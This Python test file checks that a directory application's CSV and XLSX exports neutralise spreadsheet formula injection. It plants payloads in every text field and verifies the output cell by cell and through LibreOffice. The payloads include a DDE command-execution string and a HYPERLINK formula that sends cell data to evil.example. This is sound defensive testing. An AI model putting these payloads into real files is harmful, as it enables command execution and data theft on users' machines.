"""T14: whatever stands in a field, no spreadsheet takes it for a formula, in any file that we hand out.

Sixty payloads stand in every text column of every table that goes out. Each export writes them; every file is
read cell by cell, and opened by LibreOffice, which says itself what it took for a formula.

A new export of CSV or XLSX registers itself in EXPORTS.
"""

import csv
import re
import shutil
import subprocess
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from flask import Flask
from sqlalchemy import Column, String, select

from directory.db import Base, db, reading
from directory.exchange import export_cells
from directory.exchange.export_package import write_package
from directory.exchange.import_progress import Progress
from directory.exchange.import_run import Wishes, bring_in
from directory.models import Service
from directory.models.columns import Choice
from directory.search.indexer import rebuild
from directory.vocabulary import ServiceStatus
from tests.conftest import application, close, settings_in
from tests.exchange import hostile

DDE = "cmd|' /C calc'!A0"
LINK = 'HYPERLINK("http://evil.example/?"&A1,"click")'

PAYLOADS = (
    *(f"{mark}1+1" for mark in "=+-@"),
    *(f"{mark}{DDE}" for mark in "=+-@"),
    *(f"{mark}SUM(A1:A9)" for mark in "=+-@"),
    *(f"{mark}{LINK}" for mark in "=+-@"),
    *(f"{mark}1+1" for mark in "＝＋－＠"),
    *(f"{lead}=1+1" for lead in (" ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u2007", "\x0b",
                                 "\x0c", "\x1f", "\x7f", "\x85", "\u200b", "\u200e", "\u202e", "\u2060",
                                 "\ufeff", "\u00ad", "\u2028", "\u180e")),
    *(f"{lead}@SUM(1)" for lead in ("\t\t", " \u200b ", "\n\t")),
    "|calc", "｜calc", f"|{DDE}",
    "'=1+1", "''=1+1", "\"=1+1", "\"\"=1+1", ";=1+1", ",=1+1", 'x";=1+1;"', 'x",=1+1,"', "x\n=1+1", "x\r=1+1",
    "x\t=1+1", "=1+1;=1+1",
)  # fmt: skip
"""How others have got a formula into a spreadsheet through a field."""

Export = Callable[[Flask, Path], list[Path]]


class _Planter(hostile._Maker):
    """Rows whose every text is the payload of their number."""

    place = 0

    def row(self, table: str) -> dict[str, Any]:
        row = super().row(table)
        row |= {"service": {"status": ServiceStatus.ACTIVE}, "location": {"confidential": False},
                "contact": {"public": True}}.get(table, {})  # fmt: skip
        if table == "source":
            row["name"] = f"{PAYLOADS[self.place]} {self.place}"
            row["id"] = hostile.source_id(row["name"])
        if table in ("attribute", "translation"):
            row["link_entity"], row["language"] = "service", "es"
            row["link_id"] = self.found["service"][self.place]["id"]
        return row

    def text(self) -> str:
        return PAYLOADS[self.place]

    def value(self, column: Column[Any]) -> Any:
        if column.foreign_keys:
            rows = self.found.get(next(iter(column.foreign_keys)).column.table.name, [])
            return rows[self.place]["id"] if rows else None
        if isinstance(column.type, String) and not isinstance(column.type, Choice):
            return self.text()[: column.type.length]
        return super().value(column)


def planted_rows() -> hostile.Rows:
    maker = _Planter(hostile.random.Random(14), PAYLOADS)
    for table in hostile.ORDER:
        rows = []
        for maker.place in range(len(PAYLOADS)):
            rows.append(maker.row(table))
        maker.found[table] = rows
    for table, column in (("organization", "parent_organization_id"), ("taxonomy_term", "parent_id")):
        for row in maker.found[table]:
            row[column] = None
    for row in maker.found["translation"]:
        row["field"] = "name"
    return maker.found


# ---- every export ----


def package(app: Flask, folder: Path) -> list[Path]:
    with app.app_context(), reading():
        write_package(folder / "package")
        db.session.rollback()
    return sorted((folder / "package").glob("*.csv"))


def download(address: str) -> Export:
    def fetched(app: Flask, folder: Path) -> list[Path]:
        kind = address.partition("?")[0].rpartition(".")[2]
        path = folder / f"{len(list(folder.iterdir()))}.{kind}"
        answer = app.test_client().get(address)
        assert answer.status_code == 200, address
        path.write_bytes(answer.data)
        return [path]

    return fetched


def shortlist(kind: str) -> Export:
    def fetched(app: Flask, folder: Path) -> list[Path]:
        with app.app_context(), reading():
            ids = list(db.session.scalars(select(Service.id).order_by(Service.id)))
            db.session.rollback()
        parts = [ids[first : first + 20] for first in range(0, len(ids), 20)]
        return [path for part in parts
                for path in download(f"/list.{kind}?ids={'.'.join(part)}")(app, folder)]  # fmt: skip

    return fetched


def import_report(app: Flask, folder: Path) -> list[Path]:
    """A package of rows that are refused, each told in the report with its values."""
    bad = folder / "bad"
    bad.mkdir()
    with (bad / "services.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(["id", "organization_id", "name", "status", "minimum_age", "url"])
        for place, text in enumerate(PAYLOADS):
            writer.writerow([place, "none", "" if place % 2 else text, text, text, text])
    (bad / "organizations.csv").write_text("id,name\nx,Somebody\n", encoding="utf-8")
    with app.app_context():
        outcome, _ = bring_in(app, bad, Wishes(source="bad"), Progress(is_quiet=True))
        db.session.remove()
    path = folder / "report.csv"
    shutil.copy(outcome.report, path)
    return [path]


EXPORTS: dict[str, Export] = {
    "package": package,
    "find.csv": download("/find.csv"),
    "find.csv in Spanish": download("/find.csv?lang=es"),
    "find.xlsx": download("/find.xlsx"),
    "list.csv": shortlist("csv"),
    "list.xlsx": shortlist("xlsx"),
    "import report": import_report,
}
"""Every way of ours to a file that a spreadsheet opens: (app, folder) -> the files, CSV or XLSX."""


@pytest.fixture(scope="module")
def planted(empty_database: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    folder = tmp_path_factory.mktemp("planted")
    shutil.copy(empty_database, folder / "hallway.db")
    app = application(settings_in(folder))
    with app.app_context():
        hostile.put(planted_rows())
        rebuild(app)
        db.session.remove()
    yield app
    close(app)


@pytest.fixture(scope="module")
def files(planted: Flask, tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    found = {}
    for name, export in EXPORTS.items():
        folder = tmp_path_factory.mktemp("files")
        found[name] = export(planted, folder)
        assert found[name], name
    return found


# ---- cell by cell ----

_STARTS = "=+-@|＝＋－＠｜\t\r\n\0"
_PLAIN_NUMBER = re.compile(r"\+?[\d ().-]*\d[\d ().-]*")


def is_dangerous(cell: str) -> bool:
    """Our own reading of the rule, apart from the code that writes."""
    bare = "".join(c for c in cell if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf"))
    return cell[:1] != "" and (cell[0] in _STARTS or bare[:1] in tuple(_STARTS))


def cells_of(path: Path) -> Iterator[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            yield from (cell for row in csv.reader(file) for cell in row if not is_number(cell))
    else:
        for line in openpyxl.load_workbook(path).active.iter_rows():
            for cell in line:
                assert cell.data_type != "f" and cell.hyperlink is None, cell.coordinate
                if cell.data_type == "s" and not _PLAIN_NUMBER.fullmatch(str(cell.value)):
                    yield str(cell.value)


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) is not None


def test_there_are_enough_and_they_are_dangerous() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
    assert sum(map(is_dangerous, PAYLOADS)) >= 45


@pytest.mark.parametrize("name", EXPORTS)
def test_no_cell_begins_as_a_formula(files: dict[str, list[Path]], name: str) -> None:
    told = [cell for path in files[name] for cell in cells_of(path)]
    assert not [cell for cell in told if is_dangerous(cell)]
    guarded = [cell for cell in told if cell.startswith("'")]
    assert len(guarded) >= 20, "the payloads are not in this file"


def test_every_text_column_was_tried(files: dict[str, list[Path]]) -> None:
    """Each column of the package that holds text holds payloads."""
    untouched = []
    for path in files["package"]:
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for column in rows[0]:
            if not any("1+1" in (row[column] or "") for row in rows):
                untouched.append(f"{path.stem}.{column}")
    texts = {
        f"{table.name}.{column.name}"
        for table in Base.metadata.sorted_tables
        for column in table.c
        if isinstance(column.type, String) and not isinstance(column.type, Choice)
        and not column.foreign_keys and (column.type.length or 99) > 5
        and column.name not in ("id", "link_id", "link_entity", "language", "field")
    }  # fmt: skip
    from directory.exchange.export_tables import FILES

    table_of = {file: table for table, file in FILES.items()} | {"x_sources": "source"}
    left = {f"{table_of[name.split('.')[0]]}.{name.split('.')[1].removeprefix('x_')}" for name in untouched}
    assert not left & texts


def test_texts_come_back_as_they_were(planted: Flask, files: dict[str, list[Path]]) -> None:
    """F18: guarded on the way out, bare on the way in."""
    path = next(path for path in files["package"] if path.stem == "organizations")
    with path.open(encoding="utf-8", newline="") as file:
        told = {row["id"]: export_cells.plain_cell(row["description"]) for row in csv.DictReader(file)}
    organization = Base.metadata.tables["organization"].c
    with planted.app_context(), reading():
        wanted = select(organization.id, organization.description)
        stored = {key: text for key, text in db.session.execute(wanted) if key in told}
        db.session.rollback()
    assert told == stored
    assert set(told.values()) >= set(PAYLOADS)


def test_the_check_bites_without_the_guard(
    planted: Flask, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr("directory.exchange.sheets_out.safe_cell", lambda text: text)
    told = [cell for path in download("/find.csv")(planted, tmp_path) for cell in cells_of(path)]
    assert [cell for cell in told if is_dangerous(cell)]


# ---- as LibreOffice reads it ----

CSV_AS_PEOPLE_OPEN_IT = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"
"""Comma, quote, UTF-8, from line 1; numbers and dates are detected, and formulas are evaluated."""


@pytest.fixture(scope="module")
def office() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        pytest.skip("NOT OPENED BY LIBREOFFICE: soffice is missing (Debian's libreoffice-calc-nogui)")
    return found


def formulas_in(office: str, paths: list[Path], folder: Path) -> dict[str, list[str]]:
    """File -> what LibreOffice took for a formula in it. All of a kind at once: a start takes seconds."""
    for suffix, more in ((".csv", [f"--infilter={CSV_AS_PEOPLE_OPEN_IT}"]), (".xlsx", [])):
        mine = [str(path) for path in paths if path.suffix == suffix]
        if mine:
            told = [office, "--headless", "--norestore", f"-env:UserInstallation=file://{folder / 'profile'}",
                    *more, "--convert-to", "fods", "--outdir", str(folder / "out"), *mine]  # fmt: skip
            subprocess.run(told, check=True, capture_output=True, timeout=120)
    found = {}
    for path in paths:
        text = (folder / "out" / f"{path.stem}.fods").read_text(encoding="utf-8")
        assert "<table:table-cell" in text, path.name
        found[path.name] = re.findall(r'table:formula="([^"]*)"', text)
    return found


def test_libreoffice_finds_no_formula(office: str, files: dict[str, list[Path]], tmp_path: Path) -> None:
    together = tmp_path / "all"
    together.mkdir()
    copies = []
    for place, path in enumerate(path for paths in files.values() for path in paths):
        copies.append(Path(shutil.copy(path, together / f"{place}-{path.name}")))
    bait = together / "bait.csv"
    bait.write_text('"a"\n"=1+1"\n"@SUM(1)"\n"+1+1"\n', encoding="utf-8")
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(together / "bait.xlsx")
    found = formulas_in(office, [*copies, bait, together / "bait.xlsx"], tmp_path)
    assert found.pop("bait.csv") and found.pop("bait.xlsx"), (
        "LibreOffice would not see a formula if it were one"
    )
    assert {name: formulas for name, formulas in found.items() if formulas} == {}
    assert len(found) == len(copies) > 25
